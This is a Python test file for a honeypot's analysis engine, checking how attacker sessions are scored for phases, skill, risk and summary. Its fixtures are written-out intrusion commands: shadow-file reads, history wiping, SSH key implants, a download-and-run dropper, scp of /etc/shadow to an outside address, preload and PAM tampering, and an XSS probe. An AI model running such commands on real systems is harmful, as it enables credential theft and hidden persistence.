"""A session's events become findings, phases, a level of skill, a risk, and a paragraph."""

from __future__ import annotations

from mirage.analysis.analyst import Analyst
from mirage.analysis.assessment import Assessment, assess
from mirage.analysis.effects import events_of
from mirage.analysis.finding import Finding
from mirage.analysis.rulebook import shipped_rules
from mirage.analysis.session import Detector
from mirage.base.clock import SECOND
from mirage.base.events import Envelope

DETECTOR = Detector(Analyst(shipped_rules()))
BEGAN = 1_767_225_600 * SECOND  # 2026-01-01 00:00:00 UTC


def envelopes(*rows: dict[str, object]) -> list[Envelope]:
    """Events a second apart."""
    events = events_of(list(rows))
    return [
        Envelope(id=f"{number:04}", time=BEGAN + number * SECOND, event=event, session="s", source="192.0.2.9")
        for number, event in enumerate(events)
    ]


def found_in(*rows: dict[str, object]) -> list[tuple[str, Finding]]:
    """Each with its event's number."""
    session = DETECTOR.session()
    return [(envelope.id, finding) for envelope in envelopes(*rows) for finding in session.findings(envelope)]


def rules(*rows: dict[str, object]) -> list[tuple[str, str]]:
    """(event's number, rule) of the alerts."""
    return [(number, finding.rule) for number, finding in found_in(*rows) if finding.severity.is_alert]


def line(text: str) -> dict[str, object]:
    return {"kind": "LineEntered", "text": text, "mode": "terminal"}


INTRUSION: list[dict[str, object]] = [
    {"kind": "ConnectionOpened", "protocol": "ssh", "source_ip": "192.0.2.9"},
    {"kind": "ClientIdentified", "version": "SSH-2.0-Go"},
    {"kind": "LoginAttempted", "method": "password", "username": "root", "password": "123", "accepted": False},
    {"kind": "LoginAttempted", "method": "password", "username": "root", "password": "root", "accepted": True},
    line("uname -a; id"),
    line("unset HISTFILE; cat /etc/shadow"),
    line("echo k >> ~/.ssh/authorized_keys"),
    {"kind": "FileChanged", "change": "written", "path": "/root/.ssh/authorized_keys"},
    {"kind": "ConnectionClosed", "reason": "bye"},
]


def test_an_effect_is_found_whatever_was_typed_for_it() -> None:
    found = rules(line("./strange-tool"), {"kind": "FileChanged", "change": "created", "path": "/etc/cron.d/k"})
    assert ("0001", "effect-cron") in found


def test_what_ran_is_found_when_nobody_could_see_it_in_what_was_typed() -> None:
    hidden = line("$(./decode blob)")
    ran = {"kind": "CommandRan", "argv": ["cat", "/etc/shadow"], "path": "/usr/bin/cat"}
    assert rules(hidden, ran) == [("0001", "password-hashes-read")]


def test_what_was_seen_when_it_was_typed_is_not_found_again_when_it_runs() -> None:
    ran = {"kind": "CommandRan", "argv": ["cat", "/etc/shadow"], "path": "/usr/bin/cat"}
    assert rules(line("cat /etc/shadow"), ran) == [("0000", "password-hashes-read")]


def test_a_sequence_goes_over_the_lines_of_a_session() -> None:
    found = rules(line("wget http://192.0.2.5/k"), line("chmod +x k"), line("./k"))
    assert ("0002", "dropper") in found


def test_a_file_taken_over_sftp_is_a_file_read() -> None:
    assert rules({"kind": "FileRequested", "operation": "open", "path": "/root/.ssh/id_rsa"}) == [("0000", "private-key-read")]


def test_a_web_request_is_examined() -> None:
    head = "GET /?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1\r\nHost: x\r\n\r\n"
    request = {
        "kind": "HttpRequested",
        "method": "GET",
        "target": "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "version": "HTTP/1.1",
        "head": head,
    }
    assert [finding.classes for _, finding in found_in(request)] != []


def judged() -> Assessment:
    return assess(DETECTOR, envelopes(*INTRUSION))


def test_phases_stand_in_the_order_in_which_they_began() -> None:
    assert [(phase.tactic, (phase.first - BEGAN) // SECOND, (phase.last - BEGAN) // SECOND) for phase in judged().phases] == [
        ("initial-access", 3, 3),
        ("discovery", 4, 4),
        ("defense-impairment", 5, 5),
        ("credential-access", 5, 5),
        ("persistence", 6, 7),
    ]


def test_the_risk_says_why() -> None:
    found = judged()
    assert 50 <= found.risk < 100
    assert found.risk_reasons[0].weight >= found.risk_reasons[-1].weight
    quiet = assess(DETECTOR, envelopes(INTRUSION[0], {"kind": "ConnectionClosed", "reason": "bye"}))
    assert (quiet.risk, quiet.skill, quiet.phases) == (0, "opportunistic", ())


def test_skill_grows_with_what_is_shown() -> None:
    levels = [
        assess(DETECTOR, envelopes(*[line(text) for text in texts])).skill
        for texts in (
            ["ls"],
            ["wget http://192.0.2.5/k.sh; sh k.sh", "uname -a"],
            ["unset HISTFILE", "cat /etc/shadow", "echo x > /etc/cron.d/x", "scp /etc/shadow a@192.0.2.5:", "tar czf /tmp/a.tgz /home"],
            ["unset HISTFILE", "systemd-detect-virt", "insmod r.ko", "echo /l.so > /etc/ld.so.preload", "cp p /lib/security/pam_unix.so",
             "touch -r /bin/ls /lib/security/pam_unix.so", "ssh -D 1080 a@192.0.2.5", "cat /etc/shadow", "crontab j"],
        )
    ]  # fmt: skip
    order = ["opportunistic", "script kiddie", "intermediate", "advanced", "expert"]
    assert [order.index(level) for level in levels] == sorted(order.index(level) for level in levels)
    assert (levels[0], levels[1], levels[-1]) == ("opportunistic", "script kiddie", "expert")


def test_the_summary_reads_as_a_paragraph() -> None:
    summary = judged().summary
    assert summary.startswith(
        "On 2026-01-01 00:00:00 UTC 192.0.2.9 connected over ssh with SSH-2.0-Go, logged in as root by password after 1 refused login; 3 lines in 8 s."
    )
    assert "went after credentials" in summary
    assert summary.endswith("of 100.")
    assert judged().is_final


def test_an_assessment_is_there_at_any_moment() -> None:
    assert not assess(DETECTOR, envelopes(*INTRUSION[:4])).is_final
    assert assess(DETECTOR, []).risk == 0
